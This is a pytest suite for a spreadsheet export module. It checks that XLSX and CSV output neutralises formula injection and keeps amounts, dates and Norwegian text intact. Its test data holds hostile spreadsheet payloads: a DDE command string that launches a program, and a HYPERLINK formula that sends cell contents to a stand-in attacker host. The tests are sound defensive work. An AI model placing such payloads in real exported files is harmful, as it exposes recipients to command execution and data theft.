"""Exported lists: real numbers and dates, and not one formula, whatever an external system said."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import Cell, Sheet, csv_of, harmless, xlsx_of

OSLO = ZoneInfo("Europe/Oslo")
MOMENT = datetime(2026, 11, 23, 9, 5, tzinfo=UTC)
SPACES = ("", " ", "\u00a0", "\u3000", "\u202f", "\t", "\r", "\n", "\r\n", '"', "'", "\u200b", "\ufeff")
BODIES = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "=cmd|' /C calc'!A0")
LINKS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "{=1+1}", "https://evil.example", "mailto:x@evil.example", "-"]
EVIL = [f"{lead}{body}" for lead in (*SPACES, "x\n", "x\r\n ") for body in BODIES] + LINKS
FORMULA = re.compile('[ \u00a0\u3000\u202f\t"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]')


def sheet(*rows: tuple[Cell, ...], language: str = "en") -> Sheet:
    return Sheet("Not booked", tuple(f"title {n}" for n in range(len(rows[0]))), rows, language, OSLO)


def book(made: Sheet) -> openpyxl.worksheet.worksheet.Worksheet:
    page = openpyxl.load_workbook(BytesIO(xlsx_of(made))).active
    assert page is not None
    return page


def read_csv(content: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("language", ["en", "nb"])
def test_no_text_of_an_xlsx_is_a_formula_or_a_link(language: str) -> None:
    page = book(sheet(*((text,) for text in EVIL), language=language))

    cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert len(cells) >= len(EVIL) - 1
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    assert all(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize(
    "text",
    [
        "<r>&</r>",
        "<r><t>another text</t></r>",
        "<r></t></si></sst><evil/></r>",
        "<r></r>",
        "<r>" + "x" * 40_000 + "</r>",
        "<t>x</t>",
        "<![CDATA[x]]>",
        "&amp;",
        "&#0;",
        "_x0041_",
        "<?x?>",
        "<!-- x -->",
    ],
)
def test_a_text_that_looks_like_a_piece_of_a_workbook_is_the_text_of_its_cell(text: str) -> None:
    page = book(Sheet("Not booked", (text,), ((text,), ("the next",)), "en", OSLO))

    (title, cell, after) = (str(row[0].value) for row in page.iter_rows())
    assert after == "the next"
    assert {title.strip()[:10_000], cell.strip()[:10_000]} == {text[:10_000]}
    assert len(cell) < 32_767


@given(st.text(max_size=20).map(lambda inside: f"<r>{inside}</r>"))
def test_no_text_at_all_spoils_a_workbook(text: str) -> None:
    assert book(sheet((text,), ("the next",)))["A3"].value == "the next"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", EVIL)
def test_no_line_of_a_csv_cell_begins_a_formula_whatever_separator_is_guessed(text: str, separator: str) -> None:
    language = "nb" if separator == ";" else "en"
    rows = read_csv(csv_of(sheet(("a", text, "b"), language=language)), separator)

    lines = [line for row in rows for cell in row for line in cell.splitlines()]
    assert lines
    assert not [line for line in lines if FORMULA.match(line)]


DIVIDED = [
    f"x{quote}{end}{quote}{lead}{body}"
    for end in ";,\t|"
    for lead in ("", " ", '"', "'")
    for quote in ("", '"')
    for body in BODIES
]


def naively_divided(content: bytes, separator: str) -> list[str]:
    """Every piece between two separators, as a program sees it for which our quotes are in the wrong places."""
    return [cell for line in content.decode("utf-8-sig").splitlines() for cell in line.split(separator)]


@pytest.mark.parametrize("language", ["en", "nb"])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_when_a_program_takes_another_separator_than_ours(separator: str, language: str) -> None:
    made = csv_of(sheet(*(("a", text, "b") for text in (*DIVIDED, *EVIL)), language=language))

    cells = [*naively_divided(made, separator), *(cell for row in read_csv(made, separator) for cell in row)]

    assert len(cells) > len(DIVIDED)
    assert not [cell for cell in cells if FORMULA.match(cell)]


@given(
    text=st.text(alphabet=st.sampled_from(";,\t|\n\r \"'=+-@%x1\uff1d\u00a0"), max_size=12),
    separator=st.sampled_from(",;\t"),
)
def test_no_text_at_all_makes_a_formula_for_any_program(text: str, separator: str) -> None:
    made = csv_of(sheet(("a", text, "b")))

    cells = [*naively_divided(made, separator), *(cell for row in read_csv(made, separator) for cell in row)]

    assert not [cell for cell in cells if FORMULA.match(cell)]


@pytest.mark.parametrize("text", ["Taxi; tog, buss", "a, b=c", "1,5 - 2", "kr 100,50"])
def test_an_ordinary_text_with_separators_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", ["=1", " =1", "\u00a0+1", "\t1", "x\n=1", "x\r@1", "\uff1d1", "-5 stk"])
def test_a_dangerous_text_gets_an_apostrophe(text: str) -> None:
    assert "'" in harmless(text)


@pytest.mark.parametrize("text", ["UT-004711", "Kostnadssted 9999", "a=b", "5 - 3", "kari@acme.example", "", "x\ny"])
def test_an_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_amounts_counts_and_moments_are_real_ones() -> None:
    page = book(sheet((Decimal("-1234.50"), 3, MOMENT, None, "UT-1")))
    amount, count, moment, nothing, key = (page.cell(2, column) for column in range(1, 6))

    assert (amount.value, amount.data_type, amount.number_format) == (-1234.5, "n", "#,##0.00")
    assert (count.value, count.data_type) == (3, "n")
    assert (str(moment.value), moment.is_date) == ("2026-11-23 10:05:00", True)
    assert nothing.value is None
    assert (key.value, key.data_type) == ("UT-1", "s")


def test_a_negative_number_stays_a_number_in_a_csv() -> None:
    row: tuple[Cell, ...] = (Decimal("-1234.50"), -3, MOMENT, None)

    assert csv_of(sheet(row)).decode("utf-8-sig").splitlines()[1] == "-1234.50,-3,2026-11-23 10:05,"
    assert csv_of(sheet(row, language="nb")).decode("utf-8-sig").splitlines()[1] == "-1234,50;-3;2026-11-23 10:05;"


@pytest.mark.parametrize("amount", ["12345678901234567.89", "NaN", "0.1"])
def test_an_amount_a_spreadsheet_would_change_is_text(amount: str) -> None:
    cell = book(sheet((Decimal(amount),))).cell(2, 1)

    assert Decimal(str(cell.value)).compare_total(Decimal(amount)) == 0
    assert cell.data_type == ("n" if amount == "0.1" else "s")


def test_norwegian_letters_and_a_long_text_arrive() -> None:
    content = csv_of(sheet(('Blåbærsyltetøy «x»; "sitat"', "x" * 200_000), language="nb"))

    assert content.startswith(b"\xef\xbb\xbf")
    (first, long) = read_csv(content, ";")[1]
    assert first == 'Blåbærsyltetøy «x»; "sitat"'
    assert len(long) == 32_000


def test_an_evil_name_of_a_sheet_and_a_title_do_no_harm() -> None:
    made = Sheet("a[b]:*?/\\'" * 9, ("=1",), [("x",)], "en", OSLO)

    assert book(made).cell(1, 1).data_type == "s"
    assert read_csv(csv_of(made), ",")[0] == ["'=1"]


@pytest.mark.parametrize(
    "text", ["\U0001f9fe" * 32_000, "x" + "\U0001f9fe" * 32_000, "\U0001f9fe" * 16_000, "x" * 40_000]
)
def test_a_cell_is_never_longer_than_a_spreadsheet_counts(text: str) -> None:
    made = Sheet("\U0001f9fe" * 31, ("\U0001f9fe" * 32_000,), ((text,),), "en", OSLO)
    page = book(made)

    for cell in (str(page["A1"].value), str(page["A2"].value)):
        assert 31_990 < len(cell.encode("utf-16-le")) / 2 <= 32_000
    assert len(page.title.encode("utf-16-le")) / 2 <= 31
